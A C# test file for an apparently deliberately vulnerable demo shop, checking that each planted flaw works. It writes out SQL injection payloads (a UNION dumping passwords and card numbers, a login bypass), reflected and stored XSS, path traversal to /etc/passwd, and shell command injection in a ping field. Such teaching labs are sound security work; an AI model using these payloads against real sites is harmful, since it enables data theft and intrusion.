namespace Palisade.DemoShop.Tests;

/// <summary>The shop is worth protecting: each flaw can really be used.</summary>
public sealed class FlawTests(ShopFixture shop) : IClassFixture<ShopFixture>
{
    [Fact]
    public async Task A_union_in_the_search_shows_passwords_and_cards()
    {
        var page = await Get("/search?q=", "zzz' UNION SELECT id, email, password, card_number, 'x' FROM users-- ");

        Assert.Contains("hunter2", page, StringComparison.Ordinal);
        Assert.Contains("4111111111111111", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_condition_in_the_product_id_is_evaluated()
    {
        Assert.Contains("Cedar", await Get("/product?id=", "1 AND 1=1"), StringComparison.Ordinal);
        using var refused = await shop.Client.GetAsync("/product?id=1%20AND%201=2");
        Assert.Equal(System.Net.HttpStatusCode.NotFound, refused.StatusCode);
    }

    [Fact]
    public async Task A_quote_shows_what_the_database_says()
    {
        using var answer = await shop.Client.GetAsync("/search?q=o'clock");

        Assert.Contains("SQLite Error", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_comment_in_the_email_signs_in_without_a_password()
    {
        using var form = new FormUrlEncodedContent([new("email", "admin@opengate.example'--"), new("password", "x")]);

        using var answer = await shop.Client.PostAsync("/login", form);

        Assert.Contains("Ada Keeper", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_in_the_search_comes_back_as_a_script() =>
        Assert.Contains("<script>alert(1)</script>", await Get("/search?q=", "<script>alert(1)</script>"), StringComparison.Ordinal);

    [Fact]
    public async Task A_script_in_a_review_stays_for_the_next_visitor()
    {
        using var form = new FormUrlEncodedContent([new("product", "3"), new("author", "Mallory"), new("text", "<img src=x onerror=alert(document.domain)>")]);
        (await shop.Client.PostAsync("/review", form)).Dispose();

        Assert.Contains("<img src=x onerror=alert(document.domain)>", await shop.Client.GetStringAsync("/product?id=3"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_path_out_of_the_folder_shows_files_of_the_machine()
    {
        var up = string.Concat(Enumerable.Repeat("../", 12));

        Assert.Contains("root:", await Get("/download?file=", up + "etc/passwd"), StringComparison.Ordinal);
        Assert.Contains("root:", await Get("/download?file=", "/etc/passwd"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("127.0.0.1; echo a$((40+2))b")]
    [InlineData("127.0.0.1 && echo a$((40+2))b")]
    [InlineData("$(echo a$((40+2))b >&2)")]
    public async Task A_command_after_the_host_is_run(string host) =>
        Assert.Contains("a42b", await Get("/ping?host=", host), StringComparison.Ordinal);

    private Task<string> Get(string path, string value) => shop.Client.GetStringAsync(path + Uri.EscapeDataString(value));
}
